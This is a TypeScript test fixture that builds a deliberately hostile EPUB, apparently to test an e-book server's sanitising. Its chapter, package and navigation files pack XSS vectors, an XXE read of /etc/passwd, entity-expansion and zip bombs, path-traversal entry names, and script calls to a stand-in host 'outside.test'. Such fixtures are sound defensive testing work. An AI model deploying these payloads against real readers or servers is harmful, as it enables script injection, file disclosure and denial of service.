import { writeZip } from '#server/engines/epub/zip-writer.ts'

const outside = 'http://outside.test'
const shout = "top.shouted=1;fetch('http://outside.test/script')"

/** A chapter of an e-book with every attack on the reader that a book can contain. */
const chapter = `<?xml version="1.0" encoding="utf-8"?>
<?xml-stylesheet type="text/css" href="${outside}/instruction.css"?>
<!DOCTYPE html [<!ENTITY a "哈哈哈哈哈哈哈哈哈哈"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY file SYSTEM "file:///etc/passwd">]>
<html xmlns="http://www.w3.org/1999/xhtml" xmlns:xlink="http://www.w3.org/1999/xlink">
<head><title>坏书</title>
<base href="${outside}/"/>
<meta http-equiv="refresh" content="0;url=${outside}/refresh"/>
<meta http-equiv="content-security-policy" content="script-src *"/>
<link rel="stylesheet" href="../style.css"/>
<link rel="stylesheet" href="${outside}/link.css"/>
<link rel="preconnect dns-prefetch prefetch" href="${outside}/prefetch"/>
<script>${shout}</script><script src="${outside}/script.js"></script><script src="own.js"></script>
<style>@import url("${outside}/import.css"); @import "${outside}/plain.css"; body { background: url(${outside}/background.png) }
@font-face { font-family: x; src: url('${outside}/font.woff2') } p { font-family: x; background: u\\72l("${outside}/escaped.png") }</style>
</head>
<body onload="${shout}" style="background-image: url('${outside}/style.png')">
<h1>这一章使坏</h1>
<p id="entities">&a;&c;&file;</p>
<p onclick="${shout}" onmouseover="${shout}">一段话 <img src="${outside}/image.png" onerror="${shout}" alt=""/><img src="missing.png" onerror="${shout}" alt=""/></p>
<p><a id="script-link" href="javascript:${shout}">点我</a> <a id="tabbed" href="java&#9;script:${shout}">再点</a> <a id="outward" href="${outside}/page">出去</a>
<a id="data-link" href="data:text/html,&lt;script&gt;${shout}&lt;/script&gt;">数据</a> <a id="climbing" href="../../../../../../api/v1/site">往上爬</a></p>
<iframe src="${outside}/frame"></iframe><iframe srcdoc="&lt;script&gt;${shout}&lt;/script&gt;"></iframe>
<object data="${outside}/object"><p>里面</p></object><embed src="${outside}/embed"/>
<form action="${outside}/form"><input name="a" autofocus="" onfocus="${shout}"/><button formaction="javascript:${shout}">交</button></form>
<svg xmlns="http://www.w3.org/2000/svg" onload="${shout}" viewBox="0 0 10 10"><script>${shout}</script><rect width="10" height="10" fill="url(${outside}/paint)"/>
<a xlink:href="javascript:${shout}"><text y="5">图</text></a><animate attributeName="href" values="javascript:${shout}" begin="0s" onbegin="${shout}"/>
<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script>${shout}</script></body></foreignObject>
<foreignObject onclick="${shout}"><iframe src="${outside}/foreign"/><p onclick="${shout}">内</p><form action="${outside}/in"><input/></form></foreignObject>
<style>@import "${outside}/svg.css"; rect { fill: url(${outside}/fill.svg#a); filter: url("${outside}/filter.svg#b") }</style>
<set attributeName="href" to="javascript:${shout}"/><filter id="f"><feImage href="${outside}/fe.png"/></filter>
<path d="M0 0" style="marker: url(${outside}/marker.svg#m)" mask="url( '${outside}/mask.svg#m')" clip-path="u\\72l(${outside}/clip.svg#c)"/>
<image xlink:href="${outside}/svg.png" width="5" height="5"/><use xlink:href="${outside}/use.svg#x"/>
<use href="data:image/svg+xml,&lt;svg id='x' onload='${shout}'/&gt;#x"/></svg>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">${shout}</x:script><s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>${shout}</s:script></s:svg>
<math><maction actiontype="statusline" xlink:href="javascript:${shout}"><mi>x</mi></maction><mtext href="javascript:${shout}">
<img xmlns="http://www.w3.org/1999/xhtml" src="${outside}/math.png" onerror="${shout}"/></mtext><annotation-xml encoding="text/html"><script>${shout}</script></annotation-xml></math>
<map name="m"><area href="javascript:${shout}" shape="default"/></map><object data="data:text/html,&lt;script&gt;${shout}&lt;/script&gt;" type="text/html"></object>
<audio autoplay="" onplay="${shout}"><source src="${outside}/source.mp3"/><track src="${outside}/track.vtt" default=""/></audio>
<img src="data:image/svg+xml,&lt;svg onload='${shout}'/&gt;" alt=""/><p style="background: image-set('${outside}/set.png' 1x); cursor: url(${outside}/cursor.cur), auto">式</p>
<video src="${outside}/video.mp4" autoplay="" poster="${outside}/poster.png"></video><audio src="${outside}/audio.mp3"></audio>
<p><img src="../drawing.svg" alt="画"/><img srcset="${outside}/set.png 2x" src="../drawing.svg" alt="" style="width: expression(${shout})"/></p>
<noscript><p title="</noscript><img src=x onerror=${shout}>">没有脚本</p></noscript>
<p>这一章到此为止。</p>
</body></html>`

const opf = `<?xml version="1.0"?><!DOCTYPE package [<!ENTITY lol "哈"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;">]>
<package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="id">
<metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:identifier id="id">x</dc:identifier><dc:title>&lol2;</dc:title><dc:language>zh</dc:language></metadata>
<manifest><item id="nav" href="nav.xhtml" media-type="application/xhtml+xml" properties="nav"/>
<item id="up" href="../../../../etc/passwd" media-type="application/xhtml+xml"/>
<item id="out" href="${outside}/chapter.xhtml" media-type="application/xhtml+xml"/>
<item id="one" href="text/one.xhtml" media-type="application/xhtml+xml"/><item id="js" href="text/own.js" media-type="text/javascript"/>
<item id="css" href="style.css" media-type="text/css"/><item id="bomb" href="bomb.css" media-type="text/css"/><item id="svg" href="drawing.svg" media-type="image/svg+xml"/></manifest>
<spine><itemref idref="up"/><itemref idref="out"/><itemref idref="one"/></spine></package>`

const nav = `<html xmlns="http://www.w3.org/1999/xhtml" xmlns:epub="http://www.idpf.org/2007/ops"><body><nav epub:type="toc"><ol>
<li><a href="javascript:${shout}">坏</a></li><li><a href="text/one.xhtml">使坏 &lt;img src=x onerror=alert(1)&gt;</a></li></ol></nav></body></html>`

/**
 * Returns an EPUB that tries to run scripts, send requests, refer to files outside the book, and decompress to a huge
 * size.
 */
export function hostileEpub(): Buffer {
  const text = (name: string, content: string) => ({ name, data: Buffer.from(content) })
  return writeZip([
    { ...text('mimetype', 'application/epub+zip'), isStored: true },
    text('META-INF/container.xml', '<container><rootfiles><rootfile full-path="b/book.opf"/></rootfiles></container>'),
    text('b/book.opf', opf),
    text('b/nav.xhtml', nav),
    text('b/text/one.xhtml', chapter),
    text('b/text/own.js', shout),
    text('b/style.css', `@import url(${outside}/sheet.css); h1 { background: url("${outside}/h1.png"); color: red }`),
    text(
      'b/drawing.svg',
      `<svg xmlns="http://www.w3.org/2000/svg" onload="${shout}"><script>${shout}</script><image href="${outside}/in.png"/></svg>`,
    ),
    text('../../escaped.xhtml', chapter),
    text('/etc/absolute.xhtml', chapter),
    // The style sheet of this e-book has sixteen megabytes of spaces, which compress to almost nothing.
    { name: 'b/bomb.css', data: Buffer.alloc(16 * 1024 * 1024, 32) },
  ])
}
